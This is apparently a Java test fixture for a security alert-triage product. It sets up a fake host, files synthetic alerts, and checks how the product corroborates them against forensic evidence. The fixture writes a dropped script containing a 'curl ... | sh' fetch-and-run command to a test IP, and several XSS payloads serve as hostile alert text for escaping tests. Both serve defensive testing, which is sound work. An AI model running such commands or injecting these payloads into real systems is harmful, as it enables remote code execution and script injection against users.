package io.varve.tests;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Instant;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;

/// A host on which somebody left a file, a rule that captures it, and alerts of which we know which are true.
final class Scene {
    static final int LINES = 3_000;
    static final String DROPPED = "/tmp/updater.sh";
    /// Known alert ids by what must become of them.
    static final String CONFIRMED = "scene-confirmed";

    static final String CONTRADICTED = "scene-contradicted";
    static final String NOT_SEEN = "scene-not-seen";
    static final String NOT_COLLECTED = "scene-not-collected";
    static final String RULE = "Files dropped on web servers";
    static final String HOSTILE = "<script>alert(1)</script>";
    private static final JsonMapper JSON = new JsonMapper();
    private static final String OTHER_CONTENT = sha256("not what is there".getBytes(StandardCharsets.UTF_8));

    private final Installation varve;
    private final String key;
    final Path root;
    final String sha256;
    final Host host;
    final Instant at;

    private Scene(Installation varve, Path root, String sha256, Host host) throws IOException {
        this.varve = varve;
        this.key = varve.alertKey();
        this.root = root;
        this.sha256 = sha256;
        this.host = host;
        this.at = Instant.now();
    }

    /// Makes the host below the folder, enrols it and sets the rule.
    static Scene set(Installation varve, Path folder) throws IOException {
        Path root = HostTree.make(folder.resolve("root"), LINES, 0);
        byte[] script = "#!/bin/sh\ncurl -s http://203.0.113.77/a | sh\n".getBytes(StandardCharsets.UTF_8);
        Files.write(root.resolve(DROPPED.substring(1)), script);
        Host host = Host.enrol(varve, folder.resolve("agent"), root);
        varve.post("/api/v1/rules", JSON.writeValueAsString(rule()));
        return new Scene(varve, root, sha256(script), host);
    }

    private static Map<String, Object> rule() {
        return Map.of(
                "name",
                RULE,
                "sources",
                List.of("generic"),
                "minimumSeverity",
                60,
                "techniques",
                List.of("T1105"),
                "assetPattern",
                HostTree.HOST,
                "provider",
                "endpoint",
                "profile",
                "triage",
                "dedupeWindow",
                "PT1H");
    }

    /// All four alerts; the one that the rule is about comes last, so that its capture finds the others waiting.
    ///
    /// @return id of that one
    String alertAll() throws IOException {
        alert(CONTRADICTED, "Account file replaced", 50, Map.of("files", List.of(file("/etc/passwd", OTHER_CONTENT))));
        alert(NOT_SEEN, "Miner started", 40, Map.of("files", List.of(file("/tmp/never-there", OTHER_CONTENT))));
        alert(
                NOT_COLLECTED,
                "Connection to a rare address",
                30,
                Map.of("network", List.of(Map.of("destinationIp", "203.0.113.77", "destinationPort", 443))));
        return alertConfirmed();
    }

    String alertConfirmed() throws IOException {
        return alert(
                CONFIRMED,
                "Script dropped in a temporary folder",
                80,
                Map.of("files", List.of(file(DROPPED, sha256)), "techniques", List.of("T1105")));
    }

    /// An alert whose every text is markup.
    String alertHostile() throws IOException {
        return alert(
                "scene-hostile",
                HOSTILE + "<img src=x onerror=alert(2)>",
                90,
                Map.of(
                        "hosts",
                        List.of(Map.of("hostname", HOSTILE)),
                        "description",
                        HOSTILE,
                        "url",
                        "javascript:alert(3)",
                        "users",
                        List.of("\"><script>alert(4)</script>")));
    }

    String alert(String id, String title, int severity, Map<String, Object> claims) throws IOException {
        var alert = new HashMap<String, Object>(Map.of(
                "id", id, "title", title, "severity", severity, "firstSeen", at.toString(), "lastSeen", at.toString()));
        alert.put("hosts", List.of(Map.of("hostname", HostTree.HOST)));
        alert.putAll(claims);
        HttpResponse<String> answer = varve.postAlert("generic", key, JSON.writeValueAsBytes(alert));
        if (answer.statusCode() != 202) {
            throw new IOException("alert: " + answer.statusCode() + " " + answer.body());
        }
        return JSON.readTree(answer.body()).path("alert").asText();
    }

    private static Map<String, Object> file(String path, String sha256) {
        return Map.of("path", path, "hashes", Map.of("sha256", sha256));
    }

    /// The incident that an alert was filed under, once it was read.
    String awaitIncident(String alert) {
        return Host.await(
                        "the alert is read", varve, "/api/v1/alerts/" + alert, answer -> answer.hasNonNull("incident"))
                .path("incident")
                .asText();
    }

    /// What the Forensics tab shows, once the capture of the rule was read and every alert held against it.
    JsonNode awaitJudged(String incident) {
        return Host.await(
                "every alert is judged",
                varve,
                "/api/v1/incidents/" + incident + "/forensics",
                answer -> answer.path("evidence").size() > 0
                        && answer.path("evidence").findValues("processing").stream()
                                .allMatch(processing ->
                                        processing.path("state").asText().equals("done"))
                        && states(answer)
                                .equals(Map.of(
                                        CONFIRMED, "confirmed",
                                        CONTRADICTED, "contradicted",
                                        NOT_SEEN, "not_seen",
                                        NOT_COLLECTED, "not_collected")));
    }

    /// The state of each alert by the id its source gave it.
    static Map<String, String> states(JsonNode forensics) {
        var states = new HashMap<String, String>();
        for (JsonNode row : forensics.path("alerts")) {
            states.put(
                    row.path("alert").path("normalised").path("sourceAlertId").asText(),
                    row.path("corroboration").path("state").asText());
        }
        return states;
    }

    static JsonNode answer(JsonNode forensics, String alert) {
        for (JsonNode row : forensics.path("alerts")) {
            if (row.path("alert")
                    .path("normalised")
                    .path("sourceAlertId")
                    .asText()
                    .equals(alert)) {
                return row;
            }
        }
        throw new AssertionError("no alert " + alert + " in " + forensics);
    }

    static String sha256(byte[] content) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
